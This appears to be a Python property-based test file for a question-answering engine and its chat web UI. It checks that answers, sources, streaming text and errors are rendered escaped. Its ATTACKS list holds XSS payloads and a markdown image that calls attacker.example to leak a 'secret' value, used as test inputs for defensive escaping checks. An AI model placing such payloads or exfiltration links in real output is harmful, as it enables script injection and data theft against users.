"""Any question gets an Answer or a QuestionError saying what is wrong, and whatever it holds is shown escaped."""

from __future__ import annotations

import html

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from rag.answer import Answer
from rag.engine import Engine
from rag.errors import QuestionError
from testkit.answers import citation
from tests.reliability.conftest import assert_inert
from webui.events import Events, new_session
from webui.render import esc_lines, render_answer, render_error, render_sources, render_streaming

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnError=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![x](http://attacker.example/?q=secret)",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=http://attacker.example></iframe>",
    '"><script>alert(1)</script>',
    "`<script>`",
    "**bold** _it_ # heading\n> quote\n```code```",
    "$$\\frac{1}{2}$$",
]
SCRIPTS = [
    "日本はフィリピンに何を約束しましたか？",  # Japanese
    "日本向菲律宾承诺了什么？",  # Chinese
    "ماذا تعهدت اليابان للفلبين؟",  # Arabic (right-to-left)
    "जापान ने फिलीपींस से क्या वादा किया?",  # Devanagari
    "🇯🇵🤝🇵🇭 💴❓",  # emoji, flags (ZWJ-free pairs)
    "👩‍👩‍👧‍👦 Japan pledge?",  # a ZWJ sequence
    "Japan\u202epledge\u202c to the Philippines?",  # bidi override
    "Ｊａｐａｎ ｐｌｅｄｇｅ？",  # fullwidth
]
questions = st.one_of(
    st.text(max_size=300),
    st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp", "Co", "Cs"]), max_size=50),
    st.sampled_from(ATTACKS + SCRIPTS + ["", " ", "\n\t\r", "\x00" * 10, "?" * 5000]),
    st.builds(lambda a, b: f"What did Japan pledge? {a} {b}", st.sampled_from(ATTACKS), st.text(max_size=50)),
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(question=questions)
@example(question="Japan " * 20_000)  # 120k characters
@example(question="\u200b\u200d\ufeff")  # only invisible format characters
def test_any_question_gets_an_answer_or_a_question_error(tiny_engine: Engine, question: str) -> None:
    try:
        answer = tiny_engine.ask(question)
    except QuestionError as exc:
        assert "question" in str(exc).lower() and "Traceback" not in str(exc)
        return
    assert isinstance(answer, Answer) and answer.text
    assert answer.abstained == (not answer.citations)  # an answer cites its sources; an abstention cites none
    assert all(f"[{c.n}]" in answer.text for c in answer.citations)


# --- what the UI renders ------------------------------------------------------------------------------

CITATION = citation("Japan pledged.", title="T <b>", url="https://example.org/statement")
rendered_text = st.one_of(
    st.sampled_from(ATTACKS + SCRIPTS),
    st.lists(st.sampled_from([*"<>\"'=/&;:()[]!# \nabcjsx1", "javascript:", "onerror=", "http://"]), max_size=40).map(
        "".join
    ),
)


@settings(max_examples=25, deadline=None)
@given(text=rendered_text, other=rendered_text)
def test_chat_rendering_escapes_whatever_the_model_or_user_wrote(text: str, other: str) -> None:
    answer = Answer(question=other, text=f"{text} Japan pledged [1]. {other}", citations=[CITATION], retrieved=[],
                    abstained=False, unsupported_sentences=[other])  # fmt: skip

    for fragment in (
        render_answer(answer, 1),
        render_sources(answer, 1),
        render_streaming(text),
        render_error(text),
        esc_lines(text),
    ):
        assert_inert(fragment, {CITATION.url})


@pytest.mark.parametrize("question", ATTACKS)
def test_the_chat_handler_shows_hostile_questions_as_text(tiny_engine: Engine, question: str) -> None:
    respond = Events(tiny_engine, tiny_engine.settings).respond

    *_, (_, chat, sources, _) = respond(f"What did Japan pledge? {question}", [], new_session())

    corpus_urls = {"https://example.org/harbour-pact", "https://example.org/island-forum",
                   "https://example.org/river-commission"}  # fmt: skip
    for message in chat:
        assert_inert(message["content"], corpus_urls)
    assert isinstance(sources, str), "a hostile question is still answered (or abstained on), with its sources"
    assert_inert(sources, corpus_urls)
    assert html.escape(question.split("\n")[0], quote=True) in chat[0]["content"]
